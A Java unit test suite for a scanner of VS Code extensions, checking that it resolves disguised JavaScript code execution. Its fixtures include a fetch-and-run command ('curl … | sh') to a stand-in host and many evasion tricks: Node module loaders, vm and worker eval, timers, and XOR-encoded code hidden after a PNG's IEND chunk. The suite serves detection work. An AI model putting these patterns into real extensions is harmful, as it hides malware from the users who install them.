package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways to get at a module or to run code that do not say so; each comes out as the call it is. */
class HiddenStartsTest {

    private static final String COMMAND = "curl https://start.example/a | sh";
    private static final String CODE = "require('child_process').exec('" + COMMAND + "')";

    private static void assertRuns(Map<String, String> files) {
        assertThat(Analysis.of(files).calls())
                .filteredOn(call -> call.api().equals("node:child_process.exec"))
                .anySatisfy(call -> assertThat(call.arguments().get(0).texts()).containsExactly(COMMAND));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "module.constructor._load('child_process').exec(COMMAND)",
                "module.constructor.prototype.require('child_process').exec(COMMAND)",
                "require('module')._load('child_' + 'process').exec(COMMAND)",
                "require.cache[__filename].require('child_process').exec(COMMAND)",
                "const M = module.constructor, m = new M('x'); m._compile('exports.go = () => ' + CODE, 'x.js'); m.exports.go()",
                "Object.getOwnPropertyDescriptor(require('child_process'), 'exec').value(COMMAND)",
                "new Proxy(require('child_process'), { get: (t, k) => t[k.slice(1)] })._exec(COMMAND)",
                "with (require('child_process')) exec(COMMAND)",
                "require('vm').runInNewContext('r(\"child_process\").exec(z)', { r: require, z: COMMAND })",
                "const vm = require('vm'); new vm.Script(CODE).runInContext(vm.createContext({ require }))",
                "new (require('worker_threads').Worker)(CODE, { eval: true })",
                "require('child_process').spawn(process.execPath, ['-e', CODE])",
                "require('child_process').execFileSync('/usr/bin/node', ['--eval', CODE])",
                "require('child_process').fork('x.js', [], { execArgv: ['-e', CODE] })",
                "require('child_process').execSync('node -e \"' + CODE + '\"')",
                "const p = '/tmp/notes.txt'; require('fs').writeFileSync(p, CODE); require('child_process').spawn('node', [p])",
                "require('fs').writeFileSync('/tmp/a.js', CODE)",
                "require('fs').promises.writeFile('/tmp/a.mjs', Buffer.from(btoa(CODE), 'base64'))",
                "setImmediate(line => require('child_process').exec(line), COMMAND)",
                "process.nextTick(line => require('child_process').exec(line), COMMAND)",
                "setTimeout((m, line) => require(m).exec(line), 10, 'child_process', COMMAND)",
                "process.env.KEPT = COMMAND; require('child_process').exec(process.env.KEPT)",
                "require('child_process').exec(structuredClone([COMMAND])[0])",
                "require('timers/promises').setTimeout(5, COMMAND).then(line => require('child_process').exec(line))",
            })
    void runsTheCommand(String script) {
        assertRuns(
                Map.of("extension.js", "const COMMAND = '" + COMMAND + "', CODE = \"" + CODE + "\";\n" + script + ";"));
    }

    @Test
    void codeBehindThePictureOfAnIconIsRead() {
        StringBuilder hidden = new StringBuilder("\u0089PNG rows of a picture IEND....");
        CODE.chars().forEach(c -> hidden.append((char) (c ^ 0x55)));

        assertRuns(Map.of("extension.js", """
                        const icon = require('fs').readFileSync(require('path').join(__dirname, 'icon.png'));
                        const tail = icon.subarray(icon.indexOf('IEND') + 8);
                        for (let i = 0; i < tail.length; i++) tail[i] ^= 0x55;
                        eval(tail.toString());
                        """, "icon.png", hidden.toString()));
    }

    @Test
    void aFileThatIsReadLaterIsRead() {
        assertRuns(Map.of("extension.js", """
                        require('fs').readFile(__dirname + '/data.bin', (failed, data) => eval(data.toString('utf8')));
                        """, "data.bin", CODE));
    }

    @Test
    void theManifestIsReadAsTheEditorShowsIt() {
        assertRuns(Map.of(
                "extension.js",
                """
                        const vscode = require('vscode');
                        exports.activate = () => {
                          const own = vscode.extensions.getExtension('north.quiet').packageJSON;
                          require('child_process').exec(own.badges.join(' '));
                        };
                        """,
                "package.json",
                "{\"name\": \"quiet\", \"publisher\": \"north\", \"badges\": [\"curl\", \"https://start.example/a\", \"|\","
                        + " \"sh\"]}"));
    }
}
